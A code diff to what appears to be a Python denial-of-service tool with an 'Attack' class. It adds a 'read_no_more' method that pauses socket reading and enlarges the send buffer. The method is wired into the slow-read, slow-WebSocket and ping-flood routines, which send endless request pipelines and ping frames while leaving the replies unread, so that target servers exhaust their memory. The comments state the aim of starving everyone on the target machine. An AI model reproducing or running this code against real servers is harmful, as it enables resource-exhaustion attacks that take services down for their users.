@@ -57,6 +57,10 @@ class Peer:
         finally:
             closed.cancel()
 
+    def read_no_more(self) -> None:
+        """Leave unread whatever comes, and have the system keep next to nothing of it."""
+        self.writer.transport.pause_reading()  # type: ignore[attr-defined]
+
     async def head(self) -> bytes:
         """Read a head."""
         return await self.reader.readuntil(b"\r\n\r\n")
@@ -112,6 +116,8 @@ class Attack:
             try:
                 made = socket.socket()
                 made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # so that who does not read is soon noticed
+                # What they keep is memory that would be missing for all on this machine.
+                made.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 65536)
                 made.setblocking(False)
                 await asyncio.get_running_loop().sock_connect(made, (self.host, self.port))
                 reader, writer = await asyncio.open_connection(sock=made, limit=2**18)
@@ -148,6 +154,7 @@ async def slow_body(peer: Peer) -> None:
 
 async def slow_read(peer: Peer) -> None:
     """Answers that nobody reads: a pipeline of requests without end."""
+    peer.read_no_more()
     while True:
         await peer.send((b"GET /v2/ HTTP/1.1\r\n" + _IDENTITY + b"\r\n") * 20)
 
@@ -168,6 +175,7 @@ async def slow_socket(peer: Peer) -> None:
     """Replies on a WebSocket that nobody reads."""
     await peer.send(handshake())
     await peer.head()
+    peer.read_no_more()
     while True:
         await peer.send(_long_requests())
 
@@ -181,6 +189,7 @@ async def ping_flood(peer: Peer) -> None:
     """Pings as fast as they are read, whose pongs are not."""
     await peer.send(handshake())
     await peer.head()
+    peer.read_no_more()
     while True:
         await peer.send(frame(b"p" * 125, PING) * 500)
 
